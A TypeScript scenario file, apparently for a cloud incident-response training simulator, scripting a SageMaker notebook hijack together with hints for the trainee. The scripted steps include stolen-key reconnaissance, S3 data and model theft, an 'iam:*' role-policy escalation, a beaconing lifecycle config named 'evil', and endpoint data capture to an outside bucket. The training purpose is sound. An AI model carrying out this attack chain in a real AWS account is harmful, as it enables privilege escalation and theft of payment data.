import { agents } from '../actors/agents.ts';
import type { AttackStep } from '../actors/attack.ts';
import { beacon } from '../actors/beacon.ts';
import { routine } from '../actors/benign.ts';
import { siphon } from '../actors/serving.ts';
import { accountId } from '../estate-definition.ts';
import type { Scenario } from './scenario.ts';

const attackerIp = '198.51.100.7';
const minute = 60_000;
const both = ['notebook', 'stolen-key'] as const;

const script = beacon(attackerIp);

const mint: AttackStep = {
  phase: 'entry',
  afterMs: 40_000,
  call: 'sagemaker:CreatePresignedNotebookInstanceUrl',
  input: { NotebookInstanceName: 'fraud-lab', SessionExpirationDurationInSeconds: 43_200 },
  by: ['stolen-key'],
  opens: 'notebook',
};

/** Takes an object with what the notebook's role may read. */
const steal = (bucket: 'data' | 'models', Key: string, afterMs: number): AttackStep => ({
  phase: 'collection',
  afterMs,
  call: 's3:GetObject',
  input: { Bucket: `ml-prod-${bucket}-${accountId}`, Key },
  by: ['notebook'],
});

/** A stolen key opens a notebook, and what runs on the notebook may do more than the key. ATT&CK T1078.004, T1550, T1530, T1546, T1567.002. */
export default {
  id: 'presigned-url-hijack',
  title: 'Presigned URL hijack',
  summary: 'A notebook is opened from an unknown address, and what runs on it begins to act on its own.',
  briefing: [
    'PagerDuty · SEV-2 · GuardDuty UnauthorizedAccess:IAMUser/MaliciousIPCaller in 111122223333 (ml-prod), us-east-1.',
    `An access key of alice was used from ${attackerIp}. She is in the office and says it was not her.`,
    'She works on notebook fraud-lab (role ds-exec). fraud-scorer decides on live payments: keep it up if you can.',
    'You are OnCall with administrator rights. Find out what they did, stop them, and leave a timeline.',
  ],
  hints: [
    `Filter for what ${attackerIp} did: /ip=${attackerIp}. Whose key is it, and what did it open?`,
    'A presigned URL leads to a notebook, and what runs there has the rights of its role. Follow the credentials with f.',
    "Two identities act: alice's key, and ds-exec through fraud-lab. Whoever cuts only one leaves the other.",
    'Close the presigned entry of fraud-lab (which stops it), quarantine ds-exec since its credentials are outside, deactivate the key, and roll fraud-scorer back to fraud-scorer-v3 if it was changed. Only then look at the rest.',
  ],
  playbook: 'notebook-hijack',
  attack: {
    sourceIp: attackerIp,
    disguises: {
      'stolen-key': {
        stolenFrom: 'alice',
        userAgent: agents.kaliCli,
      },
      notebook: { userAgent: agents.kaliBoto },
    },
    implant: { mark: attackerIp, as: 'notebook' },
    reentry: [mint],
    steps: [
      { phase: 'recon', afterMs: 1000, call: 'sts:GetCallerIdentity', input: {}, by: ['stolen-key'] },
      {
        phase: 'recon',
        afterMs: 4000,
        call: 'sagemaker:ListNotebookInstances',
        input: { MaxResults: 100 },
        by: ['stolen-key'],
      },
      {
        phase: 'recon',
        afterMs: 7000,
        call: 'sagemaker:ListEndpoints',
        input: { MaxResults: 100 },
        by: ['stolen-key'],
      },
      mint,
      { phase: 'escalation', afterMs: 25_000, call: 'sts:GetCallerIdentity', input: {}, by: ['notebook'] },
      {
        phase: 'collection',
        afterMs: 8_000,
        call: 's3:ListObjectsV2',
        input: { Bucket: `ml-prod-data-${accountId}`, Prefix: 'fraud/' },
        by: ['notebook'],
      },
      steal('data', 'fraud/train/2026-10.csv', 7_000),
      steal('data', 'fraud/train/2026-11.csv', 5_000),
      steal('data', 'fraud/labels/chargebacks.csv', 4_000),
      {
        phase: 'collection',
        afterMs: 9_000,
        call: 's3:ListObjectsV2',
        input: { Bucket: `ml-prod-models-${accountId}`, Prefix: 'fraud-model-v3/' },
        by: ['notebook'],
      },
      steal('models', 'fraud-model-v3/model.tar.gz', 6_000),
      {
        phase: 'escalation',
        afterMs: 20_000,
        call: 'iam:ListRolePolicies',
        input: { RoleName: 'ds-exec' },
        by: ['notebook'],
      },
      {
        phase: 'persistence',
        afterMs: 30_000,
        call: 'iam:PutRolePolicy',
        input: {
          RoleName: 'ds-exec',
          PolicyName: 'ds-exec-extra',
          PolicyDocument: JSON.stringify({
            Version: '2012-10-17',
            Statement: [{ Effect: 'Allow', Action: ['iam:*', 'sts:AssumeRole'], Resource: '*' }],
          }),
        },
        by: ['notebook'],
      },
      {
        phase: 'persistence',
        afterMs: minute,
        call: 'sagemaker:CreateNotebookInstanceLifecycleConfig',
        input: { NotebookInstanceLifecycleConfigName: 'evil', OnStart: [{ Content: script }] },
        by: both,
      },
      {
        phase: 'persistence',
        afterMs: 30_000,
        call: 'sagemaker:StopNotebookInstance',
        input: { NotebookInstanceName: 'fraud-lab' },
        by: both,
      },
      {
        phase: 'persistence',
        afterMs: 95_000,
        call: 'sagemaker:UpdateNotebookInstance',
        input: { NotebookInstanceName: 'fraud-lab', LifecycleConfigName: 'evil' },
        by: both,
      },
      {
        phase: 'persistence',
        afterMs: 35_000,
        call: 'sagemaker:StartNotebookInstance',
        input: { NotebookInstanceName: 'fraud-lab' },
        by: both,
      },
      {
        phase: 'collection',
        afterMs: 30_000,
        call: 'sagemaker:DescribeEndpoint',
        input: { EndpointName: 'fraud-scorer' },
        by: both,
      },
      {
        phase: 'collection',
        afterMs: 15_000,
        call: 'sagemaker:DescribeEndpointConfig',
        input: { EndpointConfigName: 'fraud-scorer-v3' },
        by: both,
      },
      {
        phase: 'collection',
        afterMs: 20_000,
        call: 'sagemaker:DescribeModel',
        input: { ModelName: 'fraud-model-v3' },
        by: both,
      },
      {
        phase: 'exfiltration',
        afterMs: 86_000,
        call: 'sagemaker:CreateEndpointConfig',
        input: {
          EndpointConfigName: 'fraud-scorer-v4',
          ProductionVariants: [
            {
              VariantName: 'AllTraffic',
              ModelName: 'fraud-model-v3',
              InitialInstanceCount: 2,
              InstanceType: 'ml.m5.xlarge',
              InitialVariantWeight: 1,
            },
          ],
          DataCaptureConfig: {
            EnableCapture: true,
            InitialSamplingPercentage: 100,
            DestinationS3Uri: 's3://fs-telemetry-cdn-5d1f/capture',
            CaptureOptions: [{ CaptureMode: 'Input' }, { CaptureMode: 'Output' }],
          },
        },
        by: both,
        essential: true,
      },
      {
        phase: 'exfiltration',
        afterMs: 40_000,
        call: 'sagemaker:UpdateEndpoint',
        input: { EndpointName: 'fraud-scorer', EndpointConfigName: 'fraud-scorer-v4' },
        by: both,
        essential: true,
      },
    ],
    goal: () =>
      siphon({
        endpoint: 'fraud-scorer',
        config: 'fraud-scorer-v4',
        servesMs: 8 * minute,
        by: both,
        endings: {
          reached: 'fraud-scorer has been copying every payment it scores to a bucket outside the account.',
          stopped: 'Every way back was refused; the attacker gave up and fraud-scorer copies nothing to the outside.',
        },
      }),
    deadlineMs: 34 * minute,
  },
  routines: [routine('alice'), routine('bob'), routine('ci')],
  historyCalls: 60,
} satisfies Scenario;
